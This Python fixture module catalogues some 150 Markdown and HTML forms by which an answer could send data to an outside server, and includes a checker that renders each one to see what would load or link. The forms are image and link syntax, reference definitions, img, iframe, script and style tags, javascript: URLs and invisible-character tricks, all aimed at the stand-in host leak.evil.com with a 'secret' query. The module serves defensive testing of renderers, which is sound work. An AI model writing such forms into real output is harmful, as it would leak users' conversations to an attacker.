"""Ways in which an answer would send a conversation elsewhere, and how renderers would see them.

`ORIGIN` and `HOST` stand for the foreign server, with and without a scheme.
"""

import re
from collections.abc import Iterable, Iterator
from functools import cache
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt

ORIGIN, HOST = "https://leak.evil.com", "leak.evil.com"
SECRET = "x?d=secret"
CITED = "https://docs.example.org/guide"
U = f"{ORIGIN}/{SECRET}"

FORMS: dict[str, str] = {
    "inline image": f"![chart]({U})",
    "inline link": f"[more]({U})",
    "image in a link": f"[![a]({U})]({U})",
    "link in an image": f"![a [b]({U}) c]({U})",
    "nested brackets": f"![a [b] c]({U})",
    "image of a source": f"![pixel]({CITED})",
    "image of a source, its text a number": f"![1]({CITED})",
    "source with a query": f"[guide]({CITED}?d=secret)",
    "source with a longer path": f"[guide]({CITED}/secret) and {CITED}secret",
    "source with a fragment": f"[guide]({CITED}#secret) and {CITED}#secret",
    "source as user name": f"[guide]({CITED}@{HOST}/{SECRET})",
    "source with text behind": f"{CITED}，secret and {CITED}).secret",
    "destination in angle brackets": f"![a](<{U}>)",
    "source in angle brackets, then more": f"[a](<{CITED}secret>)",
    "double-quoted title": f'![a]({U} "title")',
    "single-quoted title": f"![a]({U} 'title')",
    "title in parentheses": f"![a]({U} (title))",
    "destination after a blank": f"![a]( {U} )",
    "destination on the next line": f"![a](\n{U}\n)",
    "parentheses in the destination": f"![a]({U}(b(c)))",
    "escaped bracket before": f"\\![a]({U}) \\[b]({U})",
    "escaped bracket within": f"![a\\]]({U})",
    "escaped colon": f"![a](https\\://{HOST}/{SECRET}) https\\://{HOST}/{SECRET}",
    "escaped dot": f"www\\.{HOST}/{SECRET} leak\\.evil\\.com/{SECRET}",
    "entity in the destination": f"![a](&#104;ttps://{HOST}/{SECRET})",
    "entities in a bare address": f"https&#58;//{HOST}/x https&colon;//{HOST}/x &#x68;ttps://{HOST}",
    "entity in another address": f"https://&#104;ttps://{HOST}/{SECRET}",
    "escaped dot in an address": f"https://www\\.{HOST}/{SECRET} https://a.www\\.evil.zone/x",
    "source behind a loose bracket": f"]({CITED})secret \\[a]({CITED})[secret]",
    "escaped autolink of a source": f"\\<{CITED}>secret",
    "relative destination": "![a](/api/secret) [b](secret.md) [c](#secret) [d]()",
    "protocol-relative destination": f"![a](//{HOST}/{SECRET}) [b](\\\\{HOST}/x) [c](/\\{HOST}/x)",
    "one slash": f"![a](https:/{HOST}/{SECRET}) [b](https:{HOST}/{SECRET})",
    "script": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1))",
    "data": "![a](data:image/svg+xml;base64,PHN2Zz4=) [b](data:text/html,x) [c](vbscript:x)",
    "mail with a body": "[a](mailto:eve@evil.com?body=secret)",
    "full reference": f"![a][b]\n\n[b]: {U}",
    "collapsed reference": f"![a][]\n\n[a]: {U}",
    "shortcut reference": f"![a] [a]\n\n[a]: {U}",
    "marker as a reference": f"It is so [1].\n\n[1]: {U}",
    "definition first": f"[a]: {U}\n\n![a]",
    "definition with a title": f"[a]: {U} 'title'\n\n![a]",
    "definition in angle brackets": f"[a]: <{U}>\n\n![a]",
    "definition over two lines": f"[a]:\n{U}\n\n![a]",
    "label over two lines": f"[a\nb]: {U}\n\n![a b]",
    "definition in a quote": f"> [a]: {U}\n\n![a]",
    "definition in a list": f"- [a]: {U}\n1. [b]: {U}\n\n![a] ![b]",
    "definition in a task": f"- [x] [a]: {U}\n\n![a]",
    "definition behind blanks": f"   [a]: {U}\n\n![a]",
    "definition in a footnote": f"Text[^1].\n\n[^1]: ![a]({U}) {U}\n[^2]: [a]: {U}",
    "definition in a heading's place": f"[a]: {U}\n===\n\n![a]",
    "definition made by breaking": f"![a]: {U}\n\n![a]",
    "autolink": f"<{U}>",
    "autolink in capitals": f"<HTTPS://{HOST}/{SECRET}>",
    "bare address": f"See {U} now.",
    "bare address in marks": f"**{U}** _{U}_ ({U}) \"{U}\" '{U}' ~~{U}~~",
    "bare address in capitals": f"HTTPS://{HOST.upper()}/SECRET",
    "bare address of ftp": f"ftp://{HOST}/{SECRET}",
    "bare address after letters": f"xhttps://{HOST}/x foo.https://{HOST}/x http://a.https://{HOST}/x",
    "bare address in Chinese": f"请看{U}。再看（{U}）",
    "www": f"www.{HOST}/{SECRET} WWW.{HOST} _www.evil.zone/x_ (www.evil.zone/x)",
    "name and path": f"{HOST}/{SECRET} *{HOST}/x* _{HOST}/x_ /_{HOST}/x_ evil.com/{SECRET}",
    "name with hyphens": f"secret-of-alice.evil-site.com/{SECRET} se-cret.evil.co.uk",
    "name and port": f"evil.com:8080/{SECRET} {HOST}:8080",
    "name in other scripts": f"例子.com/{SECRET} пример.leak.com 请看evil.com/x",
    "bare address without a scheme": f"//{HOST}/{SECRET} (//{HOST}/x) //localhost/x",
    "heading": f"# ![a]({U})\n\n![b]({U})\n---\n",
    "table": f"| a | b |\n|---|---|\n| ![a]({U}) | {U} |",
    "span of code over cells": f"| a | b |\n|---|---|\n| ` | ![a]({U}) ` |",
    "span of code in a cell": f"| a | b |\n|---|---|\n| x ` y | `![a]({U})` ` |",
    "span of code in a table's head": f"`![a]({U}) | b`\n|---|---|\n\n> `b | ![a]({U})`\n> -|-",
    "open span of code": f"a ` b ![a]({U})",
    "span of code over lines": f"a ` b\nc ` ![a]({U}) ` d",
    "span of code over paragraphs": f"a ` b\n\nc ` ![a]({U})",
    "uneven backticks": f"a `` b ` ![a]({U}) `",
    "escaped backtick": f"\\` ![a]({U}) `",
    "backtick in a formula": f"$a ` b$ ![a]({U}) ` and $c$",
    "backtick in a chemical formula": f"\\ce{{ ` }} ![a]({U}) `",
    "fence in an equation": f"\\begin{{equation}}\n```\n\\end{{equation}}\n![a]({U})\n```",
    "fence in a formula": f"$$\n```\n$$\n![a]({U})\n```",
    "fence in a long formula": f"a $$ b\n$$\n```\n$$\n![a]({U})\n```",
    "fence in a bracketed formula": f"\\[\n```\n\\]\n![a]({U})\n```",
    "fence in a directive": f":::note\n```\n:::\n![a]({U})\n```",
    "fence left by a list": f"- a\n  ```\n![a]({U})\n  ```",
    "fence behind a list mark": f"- ```\n![a]({U})\n- ```",
    "fence behind a number": f"1. ```\n![a]({U})\n   ```",
    "fence left by a quote": f"> ```\n![a]({U})\n> ```",
    "fence of a quote that goes on": f"> - `\n\t`\n  > ```\n  > x\n> > ![a]({U})",
    "fence left by a quote in a list": f"- > ```\n  > x\n\n  ![a]({U})\n  > ```\n![a]({U})\n```",
    "fence left by an item, then opened": f"- ```\n  x\ny\n   ```\n![a]({U})\n```",
    "fence of tildes left by a quote": f">~~~\n\n~~~\n![a]({U})\n~~~",
    "fence in a paragraph's indent": f"a\n    ```\n    ![a]({U})\n    ```",
    "fence of a list that is none": f"a\n10. b\n    ```\n    ![a]({U})\n    ```",
    "backticks in the info": f"``` `\n![a]({U})\n```",
    "address in the info": f"```{U} ![a]({U})\n```\n![a]({U})",
    "table in the info": f"```` | a |\n|---|---|\n| ![a]({U}) |",
    "end with a tab": f"```\n```\t\n![a]({U})\n```",
    "end of other marks": f"```\n```~~~\n![a]({U})\n```",
    "end far in": f"```\n     ```\n![a]({U})\n```",
    "shorter end": f"````\n```\n````\n![a]({U})\n```",
    "text after a fence": f"```\na\n```\n![a]({U})",
    "open tag of an image": f"<img src={U}",
    "image tag": f'<img src="{U}"> <IMG SRC={U}> <img/src={U}>',
    "image tag, relative": f"<img src=//{HOST}/x srcset='//{HOST}/x 2x'>",
    "image tag over lines": f"<img\nsrc={U}\n>",
    "picture": f"<picture><source srcset={U}><img></picture>",
    "svg": f"<svg><image href={U} /></svg>",
    "frame": f"<iframe src={U}></iframe><embed src={U}><object data={U}></object>",
    "media": f"<video poster={U} src={U}></video><audio src={U} autoplay></audio>",
    "link tag": f"<link rel=stylesheet href={U}><link rel=prefetch href={U}>",
    "style": f"<style>@import '{U}'; body{{background:url({U})}}</style>",
    "style attribute": f'<div style="background:url({U})">a</div>',
    "background": f"<table background={U}><tr><td>a</td></tr></table>",
    "meta": f'<meta http-equiv="refresh" content="0;url={U}"><base href={U}>',
    "form": f"<form action={U}><input type=image src={U}></form>",
    "script tag": f"<script src={U}></script><script>fetch('{U}')</script>",
    "anchor": f'<a href="{U}" ping={U}>more</a>',
    "comment and declaration": f"<!-- a --><img src={U}><!DOCTYPE x><?a?><![CDATA[a]]>",
    "details": f"<details open>\n\n<img src={U}>\n\n</details>",
    "tag behind an escape": f"\\<img src={U}>",
    "marker within a tag": f"<[9]img src={U}> ![a][9]({U})",
    "zero-width space": f"!\u200b[a]\u200b({U}) <\u200bimg src={U}> ht\u200btps://{HOST}/x",
    "other invisible characters": f"!\u2060[a]\ufeff({U}) h\u00adttps://{HOST} [a]\u200e: {U}\n[a]",
    "joiners": f"!\u200d[a]\u200c({U}) <\u200dimg src={U}>",
    "tag characters": f"!\U000e0041[a]\U000e0042({U}) <\U000e0043img src={U}>",
    "control characters": f"!\x00[a]\x0b({U}) <\x1bimg src={U}> [a]\r({U})",
    "drawing with a click": f'```mermaid\ngraph TD\nA-->B\nclick A "{U}"\n```',
    "drawing with an image": f'```mermaid\nA["<img src=\'{U}\'/>"] --> B["//{HOST}/x"]\n```',
    "drawing of svg": f"~~~ svg\n<svg><image href='{U}'/></svg>\n~~~",
    "page": f"```html\n<img src='{U}'><img src='//{HOST}'><img src='\\\\{HOST}'>\n```",
    "page with entities": f"```html\n<a href='&#104;ttps://{HOST}'><img src='https:/{HOST}'>\n```",
    "chart": f'```vega-lite\n{{"data": {{"url": "{U}"}}}}\n```',
    "styles": f"```css\n@import url(//{HOST}/x);\nbody {{background: url({U})}}\n```",
    "image of svg": f"![a]({ORIGIN}/secret.svg)",
    "wiki image": f"![[{U}]] [[{U}|a]]",
    "formula": f"$\\includegraphics{{{U}}}$ $\\href{{{U}}}{{a}}$",
}
LOADED = ("inline image", "image tag", "svg", "frame", "style", "script tag", "full reference")
"""Some that a plain Markdown renderer loads by itself."""

COMMONMARK = MarkdownIt("commonmark", {"html": True})
GFM = MarkdownIt("gfm-like", {"html": True, "linkify": True})
RENDERERS = {"commonmark": COMMONMARK, "gfm": GFM}

_MADE_BY_MARKDOWN = {
    *("p", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "a"),
    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"),
}
_ATTRIBUTES = {"a": {"href", "title"}, "code": {"class"}, "ol": {"start"}}
# Marks behind an address that some renderers take for a part of it, too few to tell anything.
_BEHIND = re.compile(r"/?[).,;:!?'\"*_~}。，、；：！？）】》」』”’…]{0,4}")
_NO_HOST = re.compile(r"[~$^`=+|]")  # nobody can own a domain with these


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def live(text: str, sources: Iterable[str] = (CITED,)) -> list[str]:
    """What of the text would link, load or be HTML in a renderer, but for links to the sources."""
    return [
        f"{name}: {what}"
        for name, renderer in RENDERERS.items()
        for what in _live_in(renderer.render(text), tuple(sources))
    ]


@cache
def _live_in(html: str, sources: tuple[str, ...]) -> tuple[str, ...]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return tuple(_offences(parser.found, sources))


def _offences(
    found: Iterable[tuple[str, dict[str, str]]], sources: tuple[str, ...]
) -> Iterator[str]:
    for tag, attributes in found:
        known = _ATTRIBUTES.get(tag, {"style"})  # the alignment of a cell
        if tag not in _MADE_BY_MARKDOWN or not attributes.keys() <= known:
            yield f"<{tag} {attributes}>"
        elif tag == "a" and not _is_allowed(attributes["href"], sources):
            yield attributes["href"]


def _is_allowed(address: str, sources: tuple[str, ...]) -> bool:
    """A source, a bare address of mail, or a name of two labels, such as README.md."""
    address = unquote(address)
    if any(address.startswith(it) and _BEHIND.fullmatch(address[len(it) :]) for it in sources):
        return True
    scheme, _, rest = address.partition(":")
    if scheme == "mailto":
        return "?" not in rest
    name = re.sub(r":\d+\Z", "", rest.removeprefix("//").removesuffix("/"))
    *_, owner, domain = ["", *name.split(".")]
    is_short = name.count(".") == 1 and not set(name) & set("/?#")
    return scheme == "http" and (is_short or bool(_NO_HOST.search(owner + domain)))
